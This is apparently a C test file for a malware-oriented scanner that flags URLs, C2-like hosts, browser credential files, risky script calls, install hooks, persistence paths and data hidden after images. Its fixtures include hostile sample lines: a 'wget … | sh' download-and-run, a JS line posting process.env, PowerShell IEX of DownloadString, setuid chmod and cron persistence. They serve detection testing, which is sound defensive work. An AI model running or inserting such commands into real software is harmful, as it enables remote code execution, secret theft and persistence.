/* SPDX-License-Identifier: Apache-2.0 */
#include "artifact/feature_text.h"
#include "facts.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>

/* ---- texts ---- */

#define TEXTS(bytes, name)               \
    TRN_AUTO(facts_done) struct facts s; \
    facts_of(&s, TRN_STR(bytes), name, TRN_FEATURE_TEXT)

Test(feature_text, urls_hosts_and_addresses_of_a_program_are_told_once_with_their_place)
{
    TEXTS("\x7f"
          "ELF\0\0\0\0"
          "https://a.test/x/y?q=1\0"
          "https://a.test/x/y?q=2\0"
          "see http://b.test/ for more\0"
          "c2.example-name.xyz\0"
          "91.200.3.4:8443\0"
          "GoogleChrome\0Google/Chrome/Default/Login Data\0",
          "libx.so");
    EXPECT_FACTS(&s, "text url=https://a.test/x/y?q=1 2 @0x8\n"
                     "text url=http://b.test/ 1 @0x3a\n"
                     "text domain=c2.example-name.xyz 2 @0x52\n"
                     "text address=91.200.3.4:8443 2 @0x66\n"
                     "text browser=google/chrome 2 @0x83\n"
                     "text browser=default/login data 2 @0x91\n");
}

Test(feature_text, what_only_looks_like_a_host_is_not_told)
{
    TEXTS("\x7f"
          "ELF\0\0\0\0"
          "libfoo.so.6\0main.c\0.text\0user.io.read\0mail@some.org\0 1.2.3.4 \0"
          "2.5.29.14\0"
          "300.1.1.200\0"
          "10.0.19041.1\0127.0.0.1\0%s://%s.com\0http://%s/x\0http://localhost/\0a..com\0x.com y\0",
          "libx.so");
    EXPECT_FACTS(&s, "");
}

Test(feature_text, utf16_is_read_as_well)
{
    TEXTS("MZ\0\0h\0t\0t\0p\0s\0:\0/\0/\0a\0.\0t\0e\0s\0t\0/\0z\0\0\0\0p\0l\0a\0c\0e\0s\0.\0s\0q\0l\0i\0t\0e\0\0\0",
          "x.bin");
    EXPECT_FACTS(&s, "text url=https://a.test/z 2 @0x4\n"
                     "text browser=places.sqlite 2 @0x27\n");
}

Test(feature_text, the_urls_of_a_certificate_are_not_told)
{
    TEXTS("\x7f"
          "ELF\0\0\x86\x15http://crl.test/a.crl0\x82",
          "libx.so");
    EXPECT_FACTS(&s, "");
}

static int64_t in_steps(void *ctx, uint64_t at, void *dst, size_t n)
{
    const struct trn_str *bytes = ctx;
    n = TRN_MIN(n, bytes->n - TRN_MIN((size_t)at, bytes->n));
    memcpy(dst, bytes->p + at, n);
    return (int64_t)n;
}

/* Each place around the border of two pieces, of memory and of a file. */
Test(feature_text, nothing_is_lost_where_two_pieces_meet)
{
    enum { BORDER = 128 << 10, SIZE = 300 << 10 };
    static const char text[] = "https://border.test/a\0logins.json\0";
    char *room = malloc(SIZE);
    struct trn_str bytes = {room, SIZE};
    cr_assert_not_null(room);
    for (size_t at = BORDER - 40; at < BORDER + 8; at++) {
        char want[200];
        memset(room, 0xf3, SIZE);
        memcpy(room,
               "\x7f"
               "ELF",
               4);
        memcpy(room + at, text, sizeof(text));
        snprintf(want, sizeof(want), "text url=https://border.test/a 2 @0x%zx\ntext browser=logins.json 2 @0x%zx\n", at,
                 at + 22);
        for (int file = 0; file < 2; file++) {
            TRN_AUTO(facts_done) struct facts s;
            struct trn_source source =
                file ? (struct trn_source){.size = SIZE, .read = in_steps, .ctx = &bytes} : trn_source_mem(bytes);
            facts_of_source(&s, &source, "x.bin", TRN_FEATURE_TEXT);
            cr_expect(trn_str_eq_c(trn_buf_str(&s.lines), want), "at %zu: %s", at, trn_buf_str(&s.lines).p);
        }
    }
    free(room);
}

Test(feature_text, the_words_are_in_lower_case_and_long_enough)
{
    cr_assert_leq(trn_text_words_count, 128);
    for (size_t i = 0; i < trn_text_words_count; i++) {
        cr_expect_geq(strlen(trn_text_words[i].text), TRN_TEXT_WORDS_LEAST, "%s", trn_text_words[i].text);
        for (const char *p = trn_text_words[i].text; *p; p++)
            cr_expect_eq(tolower((unsigned char)*p), *p, "%s", trn_text_words[i].text);
    }
}

/* ---- scripts ---- */

Test(feature_script, what_javascript_can_do)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s,
             TRN_STR("const cp = require('node:child_process'); import x from 'https';\n"
                     "// require('net')\n"
                     "const t = 'fetch(1)'; cp.execSync(t); function fetch(a) {}\n"
                     "eval(Buffer.from(t, 'base64').toString()); post(JSON.stringify(process.env));\n"),
             "index.js", TRN_FEATURE_CALL);
    EXPECT_FACTS(&s, "call process=child_process 1 @0x14\n"
                     "call network=https 1 @0x39\n"
                     "call process=execSync 1 @0x6c\n"
                     "call code=eval 1 @0x8e\n"
                     "call decode=Buffer.from 1 @0xa3\n"
                     "call environment=process.env 1 @0xd5\n"
                     "call secret=process.env as a whole 1 @0xd5\n");
}

Test(feature_script, what_python_can_do)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s,
             TRN_STR("#!/usr/bin/python3\nimport os, subprocess as sp\nfrom urllib.request import urlopen\n"
                     "# exec(1)\ndef eval(x): pass\nplatform.system()\nos.system('id')\nexec(x)\n"),
             "x.py", TRN_FEATURE_CALL);
    EXPECT_FACTS(&s, "call process=subprocess 1 @0x1e\n"
                     "call network=urllib 1 @0x34\n"
                     "call process=system 1 @0x83\n"
                     "call code=exec 1 @0x90\n");
}

Test(feature_script, what_a_shell_script_can_do)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s,
             TRN_STR("#!/bin/sh\nset -e\n# curl x\nif [ -x /usr/bin/deb-systemd-helper ]; then\n"
                     "update-alternatives --install a b c 1\nfi\n"
                     "wget -qO- http://x.test | sh\nbase64 -d f\nbase64 f\nchmod 4755 /usr/bin/x\n"
                     "echo x > /etc/cron.d/x\n/opt/x/helper --go\n"),
             "postinst", TRN_FEATURE_CALL);
    EXPECT_FACTS(&s, "call network=wget 1 @0x6f\n"
                     "call code=sh 1 @0x89\n"
                     "call decode=base64 1 @0x8c\n"
                     "call privilege=chmod 1 @0xa1\n"
                     "call persist=/etc/cron.d/x 1 @0xb7\n"
                     "call run=/opt/x/helper 1 @0xce\n");
}

Test(feature_script, what_php_perl_and_powershell_can_do)
{
    static const struct {
        const char *name, *text, *want;
    } cases[] = {
        {"x.php",
         "exec() in a page\n<?php // system('x')\n/* curl_init() */ # mail()\nfunction exec_it() {}\n"
         "$a = \"shell_exec('x')\"; $o->exec($a); X::mail($a);\n$h = <<<EOT\nfsockopen('h')\nEOT;\n"
         "eval(base64_decode($a));\n$b = `id`; ?>passthru('x')<?php curl_exec($c);\n",
         "call code=eval 1 @0xaa\ncall decode=base64_decode 1 @0xaf\ncall process=` 1 @0xc8\n"
         "call network=curl_exec 1 @0xe3\n"},
        {"run",
         "#!/usr/bin/perl\nuse LWP::UserAgent; use strict; use MIME::Base64;\n# system('x')\n=head1 "
         "NAME\n\nexec('x')\n\n"
         "=cut\nmy %h = (system => 1); $h{exec}; sub open { }\nprint \"exec('x')\";\nsystem(\"id\"); eval { 1 };\n"
         "eval $code; my $k = $ENV{HOME};\n__END__\nexec('x');\n",
         "call network=LWP::UserAgent 1 @0x14\ncall decode=MIME::Base64 1 @0x34\ncall process=system 1 @0xae\n"
         "call code=eval 1 @0xc8\ncall environment=ENV 1 @0xdd\n"},
        {"x.ps1",
         "# iex\n<# Invoke-Expression #>\n$iex = 'Start-Process'; $t = @\"\ncurl x\n\"@\n"
         "IEX ((New-Object System.Net.WebClient).DownloadString('http://x'))\n[Convert]::FromBase64String($t)\n",
         "call code=IEX 1 @0x48\ncall network=System.Net.WebClient 1 @0x59\ncall network=DownloadString 1 @0x6f\n"
         "call decode=FromBase64String 1 @0x96\n"},
        {"x.txt", "exec('x'); curl_init(); Invoke-Expression\n", ""},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        TRN_AUTO(facts_done) struct facts s;
        facts_of(&s, trn_str_of(cases[i].text), cases[i].name, TRN_FEATURE_CALL);
        EXPECT_FACTS(&s, cases[i].want);
    }
}

Test(feature_script, how_it_is_written)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s, TRN_STR("var _0x1a2b = '\\x61\\x62'; _0x1a2b(_0x1a2b, name);\n"), "a.js", TRN_FEATURE_MEASURE);
    cr_expect(trn_str_contains(trn_buf_str(&s.lines), TRN_STR("js.hex-names= 600\n")), "%s", s.lines.p);
    cr_expect(trn_str_contains(trn_buf_str(&s.lines), TRN_STR("js.coded-letters= 1000\n")), "%s", s.lines.p);
    cr_expect(trn_str_contains(trn_buf_str(&s.lines), TRN_STR("js.longest-line= 49000\n")), "%s", s.lines.p);
}

/* ---- packages ---- */

Test(feature_package, of_npm_what_runs_and_what_is_asked_for)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s,
             TRN_STR("{\"name\":\"x\",\"main\":\"m.js\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"node i.js\"},"
                     "\"dependencies\":{\"a\":\"^1\"},\"devDependencies\":{\"b\":\"1\"}}"),
             "package.json", 0);
    EXPECT_FACTS(&s, "script main=m.js 1 @0x13\n"
                     "script postinstall=node i.js 1 @0x41\n"
                     "dependency a=^1 1 @0x62\n");
}

Test(feature_package, of_debian_what_is_asked_for)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s,
             TRN_STR("Package: x\nVersion: 1\nPre-Depends: dpkg (>= 1.17)\nDepends: libc6 (>= 2.36), a | b, c\n"
                     "Suggests: d\nDescription: y\n Depends: z\n"),
             "control", TRN_FEATURE_DEPENDENCY);
    EXPECT_FACTS(&s, "dependency dpkg=(>= 1.17) 1 @0x16\n"
                     "dependency libc6=(>= 2.36) 1 @0x32\n"
                     "dependency a=| b 1 @0x32\n"
                     "dependency c= 1 @0x32\n");
}

Test(feature_package, of_python_what_is_asked_for_and_what_starts)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s,
             TRN_STR("Metadata-Version: 2.1\nName: x\nRequires-Dist: requests (>=2)\n"
                     "Requires-Dist: q; extra == 'dev'\n\nRequires-Dist: no\n"),
             "METADATA", 0);
    EXPECT_FACTS(&s, "dependency requests=(>=2) 1 @0x1e\n");
    facts_done(&s);
    facts_of(&s, TRN_STR("./src\nimport os;os.system('x')\n"), "x.pth", TRN_FEATURE_SERVICE);
    EXPECT_FACTS(&s, "service python-start=import os;os.system('x') 1 @0x6\n");
}

/* ---- what starts by itself ---- */

Test(feature_service, by_place_and_content)
{
    static const struct {
        const char *name, *text, *want;
    } cases[] = {
        {"usr/lib/systemd/system/a.service", "[Unit]\nDescription=x\n[Service]\nExecStart=/usr/bin/a --b\n",
         "service systemd=a.service: /usr/bin/a --b 1 @0x1f\n"},
        {"./lib/systemd/system/a.timer", "[Timer]\nOnBootSec=1\n", "service systemd=a.timer 1 @0x0\n"},
        {"etc/cron.d/a", "# x\n* * * * * root /usr/bin/a\n", "service cron=a: * * * * * root /usr/bin/a 1 @0x4\n"},
        {"etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=a %u\nTryExec=b\n",
         "service autostart=a.desktop: a %u 1 @0x10\n"},
        {"etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPre=/x\nNice=1\n",
         "service systemd=x.conf: /x 1 @0xa\n"},
        {"etc/systemd/journald.conf.d/x.conf", "[Journal]\nStorage=none\n", ""},
        {"etc/dpkg/dpkg.cfg.d/x", "# post-invoke\npost-invoke=/x\n", "service apt-hook=x: post-invoke=/x 1 @0xe\n"},
        {"usr/share/applications/a.desktop", "[Desktop Entry]\nExec=a %u\n", ""},
        {"usr/share/doc/a/examples/systemd/a.service", "[Service]\nExecStart=/x\n", ""},
        {"usr/share/dbus-1/system-services/a.service", "[D-BUS Service]\nName=a\nExec=/usr/lib/a\nUser=root\n",
         "service dbus=a.service: /usr/lib/a 1 @0x17\n"},
        {"lib/udev/rules.d/9.rules", "# RUN\nKERNEL==\"a\", RUN+=\"/bin/x\"\nKERNEL==\"b\", MODE=\"1\"\n",
         "service udev=9.rules: KERNEL==\"a\", RUN+=\"/bin/x\" 1 @0x6\n"},
        {"a.app/Contents/Library/LaunchAgents/a.plist",
         "<?xml version=\"1.0\"?><plist><dict><key>Label</key><string>l</string><key>ProgramArguments</key>"
         "<array><string>/x/y</string><string>-z</string></array></dict></plist>",
         "service launchd=a.plist: /x/y 1 @0x0\nservice launchd=a.plist: -z 1 @0x0\n"},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        TRN_AUTO(facts_done) struct facts s;
        facts_of(&s, trn_str_of(cases[i].text), cases[i].name, TRN_FEATURE_SERVICE);
        cr_expect(trn_str_eq_c(trn_buf_str(&s.lines), cases[i].want), "%s: told\n%snot\n%s", cases[i].name,
                  trn_buf_str(&s.lines).p, cases[i].want);
    }
}

/* ---- what is in an image and belongs to none of its parts ---- */

Test(feature_embedded, behind_the_end_of_an_image)
{
    char room[64 + 2048];
    TRN_AUTO(facts_done) struct facts s;
    static const uint8_t gif[] = {'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0,    0, 0, 0x2c, 0,
                                  0,   0,   0,   1,   0,   1,   0, 0, 2, 2, 0x44, 1, 0, 0x3b};
    memcpy(room, gif, sizeof(gif));
    for (size_t i = 0; i < 2000; i++)
        room[sizeof(gif) + i] = "0123456789abcdef"[(i * 7 + i / 16) % 16];
    facts_of(&s, (struct trn_str){room, sizeof(gif)}, "a.gif", TRN_FEATURE_EMBEDDED);
    EXPECT_FACTS(&s, "");
    facts_done(&s);
    facts_of(&s, (struct trn_str){room, sizeof(gif) + 2000}, "a.gif", TRN_FEATURE_EMBEDDED);
    EXPECT_FACTS(&s, "embedded text=4.00 2000 @0x1d\n");
}

/* What only looks like a text that begins here, and never ends, hides nothing behind it. */
Test(feature_script, a_shift_by_a_name_is_no_text)
{
    TRN_AUTO(facts_done) struct facts s;
    facts_of(&s, TRN_STR("#!/usr/bin/perl\nmy $x = 1 <<BITS;\nsystem('id');\n"), "x", TRN_FEATURE_CALL);
    EXPECT_FACTS(&s, "call process=system 1 @0x22\n");
}
